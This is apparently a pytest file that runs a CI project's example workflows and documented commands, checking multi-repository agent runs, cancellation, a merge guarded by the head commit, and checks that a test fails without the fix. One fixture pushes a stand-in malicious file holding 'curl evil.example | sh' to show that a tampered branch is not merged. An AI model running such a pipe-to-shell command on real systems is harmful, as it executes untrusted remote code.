"""The examples that act cannot play, and the commands of the pages: their scripts, run unchanged by
a shell or by Python, and their steps.
"""

from __future__ import annotations

import json
import shlex
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

import pytest
import yaml

from tests.ci_environments import environment
from tests.documents import claim
from tests.e2e.judged import beside
from tests.emulator import Emulator
from tests.program import FAST_CLOCK, ROOT, GitHubStep, bash, executable
from tests.require import require
from tests.waits import LONG, asked, wait_until


def jobs_of(example: str) -> dict[str, Any]:
    jobs: dict[str, Any] = yaml.safe_load(claim(f"examples/workflows/{example}.yml").code)["jobs"]
    return jobs


LIST_CHILD = yaml.safe_load(claim("examples/gitlab/repositories.gitlab-ci.yml").code)["list"]
MATRIX, MERGE, HONEST_GREEN = (jobs_of(name) for name in ("matrix", "merge", "honest-green"))
BESIDE_TESTS: Final[list[dict[str, Any]]] = jobs_of("beside-tests")["test"]["steps"]
AGENT: Final = next(step for step in BESIDE_TESTS if step.get("background"))
TARGETS = (claim("README.md", "make demo"), claim("CONTRIBUTING.md", "git clone"))
FIRST_CALL = claim("CONTRIBUTING.md", "--instructions")
FIRST_LINE = claim("CONTRIBUTING.md", '"instructions"')
PULL_REQUEST = "https://github.com/acme/web/pull/42"
REPOS = ["acme/api", "acme/web"]
PROMPT = "Add a CODEOWNERS file if there is none"


@pytest.fixture
def two_repositories(tmp_path: Path) -> Iterator[Emulator]:
    """A service whose token sees two repositories, in each of which a run is expected."""
    require("jq")
    uuid = "5f0c7a52-3f9b-4d0e-9b57-1f2a6c1d000"
    listed = [{"id": f"{uuid}{at}", "full_name": name} for at, name in enumerate(REPOS)]
    tokens = [{"token": "mog_" + "0" * 32, "scopes": ["read", "write"]}]
    world = tmp_path / "world.yaml"
    users = [{"name": "ada", "tokens": tokens, "repos": listed}]
    world.write_text(yaml.safe_dump({"users": users}))
    with Emulator("success", world=world, speed=50) as emulator:
        yield emulator
    started = [(run.repo.full_name, run.prompt) for run in emulator.runs]
    assert started == [(repo, PROMPT) for repo in REPOS]
    assert len({run.key for run in emulator.runs}) == 2


def script(text: str, folder: Path, emulator: Emulator, **env: str) -> None:
    known = {"MOGPLEX_URL": emulator.url, "MOGPLEX_API_KEY": emulator.token}
    ended = bash(text, folder, known | env)
    assert ended.code == 0, ended


def test_the_matrix_of_github_has_a_run_in_each_repository_and_a_table_of_all(
    tmp_path: Path, two_repositories: Emulator
) -> None:
    summary = tmp_path / "summary.md"
    results = tmp_path / "table" / "results"
    results.mkdir(parents=True)
    given = MATRIX["agent"]["steps"][0]["with"]
    for index, repo in enumerate(REPOS):
        known = {"api-key": two_repositories.token, "base-url": two_repositories.url, "repo": repo}
        context = {"matrix": {"repo": repo}, "index": index, "total": 2, "max-parallel": 4}
        inputs = given | known | {"job-context": json.dumps(context)}
        step = GitHubStep(tmp_path / f"job-{index}", inputs)
        ended = step.run()
        assert ended.code == 0, ended.out
        (step.workspace / given["output-dir"]).rename(results / f"mogplex-{index}")
    (_, writing) = MATRIX["table"]["steps"]
    table = str(summary)
    script(writing["run"], tmp_path / "table", two_repositories, GITHUB_STEP_SUMMARY=table)
    lines = summary.read_text(encoding="utf-8").splitlines()
    assert lines[:2] == ["| Repository | Result | Pull request |", "| --- | --- | --- |"]
    expected = [f"| {repo} | success | https://github.com/{repo}/pull/42 |" for repo in REPOS]
    assert sorted(lines[2:]) == expected


def test_the_child_pipeline_of_gitlab_has_a_run_in_each_repository(
    tmp_path: Path, two_repositories: Emulator
) -> None:
    script("\n".join(LIST_CHILD["script"]), tmp_path / "list", two_repositories)
    child = (tmp_path / "list" / "child.gitlab-ci.yml").read_text(encoding="utf-8")
    agent = yaml.safe_load(child)["agent"]
    (matrix,) = agent["parallel"]["matrix"]
    for number, repo in enumerate(matrix["MOGPLEX_REPO"], 1):
        folder = tmp_path / f"job-{number}"
        name = {"CI_JOB_NAME": f"agent: [{repo}]", "CI_NODE_INDEX": str(number)}
        env = environment("gitlab", folder) | name | {"CI_NODE_TOTAL": "2"}
        env |= agent["variables"] | {"MOGPLEX_REPO": repo}
        script("\n".join(agent["script"]), folder, two_repositories, **env)


@pytest.mark.parametrize("tests_pass", [True, False])
def test_the_agent_beside_the_tests_is_cancelled_when_they_pass_and_waited_for_when_they_fail(
    tmp_path: Path, tests_pass: bool
) -> None:
    """Played as GitHub's runner plays it: ``cancel`` takes no condition, sends SIGINT first, and
    leaves a step that has ended as it is.
    """
    log, failed = "", False
    with Emulator("slow" if tests_pass else "success", speed=5) as emulator:
        given = {"base-url": emulator.url, "api-key": emulator.token}
        agent = GitHubStep(tmp_path, AGENT["with"] | given, {"GITHUB_ACTION": "agent"})
        make = agent.workspace / "bin" / "make"
        executable(make, f"#!/bin/sh\nexit {0 if tests_pass else 1}\n")
        with agent.start() as process:
            wait_until(asked(emulator, "stream"), process)
            for step in BESIDE_TESTS:
                holds = {
                    "always()": True,
                    "steps.tests.outcome == 'failure'": not tests_pass,
                    "steps.agent.outputs.result == 'success'": (
                        agent.outputs.get("result") == "success"
                    ),
                }
                if "cancel" in step:
                    process.send_signal(signal.SIGINT)
                    process.communicate(timeout=LONG)
                elif "run" in step and all(
                    holds[part] for part in step.get("if", "always()").split(" && ")
                ):
                    names = {
                        name: value.split(".outputs.")[1].removesuffix(" }}")
                        for name, value in step.get("env", {}).items()
                    }
                    env = {name: agent.outputs[output] for name, output in names.items()}
                    ended = bash(step["run"], agent.workspace, env)
                    log += ended.out
                    failed |= ended.code != 0 and not step.get("continue-on-error")
        statuses = [run.status for run in emulator.runs]
    assert statuses == ["cancelled" if tests_pass else "success"]
    assert (failed, log) == (
        not tests_pass,
        "" if tests_pass else f"The agent's fix is {PULL_REQUEST}\n",
    )


GH = """#!/bin/sh
# gh, as far as it merges: it refuses when the head of the pull request is another commit.
[ "$1 $2 $4 $5" = "pr merge --squash --match-head-commit" ] || exit 2
[ "$6" = "$(cat head)" ] || { echo "Head branch was modified" >&2; exit 1; }
echo "merged $3 at $6"
"""


@pytest.mark.parametrize("is_pushed_later", [False, True])
def test_exactly_the_judged_commit_is_merged(tmp_path: Path, is_pushed_later: bool) -> None:
    given = MERGE["agent"]["steps"][0]["with"]
    with beside(tmp_path, speed=100) as each:
        names = ("api-key", "github-token", "prompt")
        inputs = {name: str(value) for name, value in given.items() if name not in names}
        step = each.step(**{name.replace("-", "_"): value for name, value in inputs.items()})
        ended = step.run(through=FAST_CLOCK)
        assert ended.code == 0, ended.out
        branch = step.outputs["branch"]
        if is_pushed_later:
            each.github.push(branch, {"evil.sh": "curl evil.example | sh"})
        head = each.github.branches[branch]
    outputs = {
        f"${{{{ needs.agent.outputs.{name} }}}}": step.outputs[value.split(".")[-1].rstrip(" }")]
        for name, value in MERGE["agent"]["outputs"].items()
    }
    (tmp_path / "head").write_text(head)
    executable(tmp_path / "bin" / "gh", GH)
    merge = MERGE["merge"]["steps"][0]
    env = {name: outputs.get(value, "") for name, value in merge["env"].items()}
    merged = bash(merge["run"], tmp_path, env)
    assert (merged.code == 0) is not is_pushed_later
    assert merged.out == ("" if is_pushed_later else f"merged {PULL_REQUEST} at {head}\n")


MAKEFILE = "test:\n\t@for each in tests/*.sh; do sh $$each || exit 1; done\n"
OLD_TEST = "true\n"
PROVES_THE_FIX = '[ "$(sh sum.sh)" = 4 ]\n'
NO_TEST = "The pull request changes no test."
PASSES_WITHOUT = "The changed tests also pass without the fix."


def commit(repository: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (repository / name).parent.mkdir(exist_ok=True)
        (repository / name).write_text(text)
    git(repository, "add", "--all")
    git(repository, "commit", "--message", "A change")


def git(repository: Path, *words: str) -> None:
    identity = ["-c", "user.name=dev", "-c", "user.email=dev@example.com"]
    subprocess.run(["git", *identity, *words], cwd=repository, check=True, capture_output=True)


@pytest.mark.parametrize(
    ("base", "changes", "error"),
    [
        ({}, {"tests/sum.sh": PROVES_THE_FIX}, None),
        ({}, {"tests/old.sh": OLD_TEST + PROVES_THE_FIX}, None),
        ({}, {"tests/sum.sh": "true # weak\n"}, PASSES_WITHOUT),
        ({}, {"tests/old.sh": OLD_TEST + "# reformatted\n"}, PASSES_WITHOUT),
        ({}, {}, NO_TEST),
        # A failure proves nothing if the base fails, too.
        ({"tests/red.sh": "false\n"}, {"tests/sum.sh": PROVES_THE_FIX}, ""),
    ],
)
def test_only_a_test_that_fails_without_the_fix_passes(
    tmp_path: Path, base: dict[str, str], changes: dict[str, str], error: str | None
) -> None:
    repository = tmp_path / "repository"
    repository.mkdir()
    git(repository, "init", "--initial-branch", "main")
    known = {"Makefile": MAKEFILE, "sum.sh": "echo 3", "tests/old.sh": OLD_TEST}
    commit(repository, known | base)
    git(repository, "switch", "--create", "fix")
    commit(repository, {"sum.sh": "echo 4", **changes})
    git(repository, "switch", "main")
    git(repository, "merge", "--no-ff", "fix")
    checked = bash(HONEST_GREEN["without-the-fix"]["steps"][1]["run"], repository)
    assert (checked.code == 0) is (error is None), checked
    assert not error or f"::error::{error}" in checked.out


def test_the_targets_that_the_pages_name_are_there(tmp_path: Path) -> None:
    """`make` only says what it would do: tests would run these tests, and setting up takes
    minutes.
    """
    for program in ("git", "make"):
        require(program)
    env = {
        "MAKEFLAGS": "--dry-run",
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": f"url.{ROOT}.insteadOf",
        "GIT_CONFIG_VALUE_0": "https://github.com/mogplex/run-action",
    }
    for number, block in enumerate(TARGETS):
        enters = "" if "git clone" in block.code else f"cd {shlex.quote(str(ROOT))}\n"
        done = bash(enters + block.code, tmp_path / str(number), env)
        assert (done.code, "-m tests.demo" in done.out) == (0, True), done.err


def test_the_first_change_does_what_the_page_says(tmp_path: Path) -> None:
    """In a copy of the package, from which the change is taken if it is made already."""
    command = shlex.join([sys.executable, *shlex.split(FIRST_CALL.code)[1:]])
    page = (ROOT / FIRST_CALL.page).read_text(encoding="utf-8")
    schema = tmp_path / "mogplex_ci" / "schemas" / "inputs.schema.json"
    shutil.copytree(ROOT / "mogplex_ci", tmp_path / "mogplex_ci")
    document = json.loads(schema.read_text(encoding="utf-8"))
    document["x-instead"].pop("instructions", None)
    text = json.dumps(document, indent=2)
    start = '"x-instead": {\n'
    changes = {
        "flag --instructions does not exist. Did you mean --run-options?": start,
        "Use --prompt instead.": start + FIRST_LINE.code,
    }
    for words, change in changes.items():
        schema.write_text(text.replace(start, change), encoding="utf-8")
        ended = bash(command, tmp_path)
        assert words in page
        assert words in ended.out + ended.err
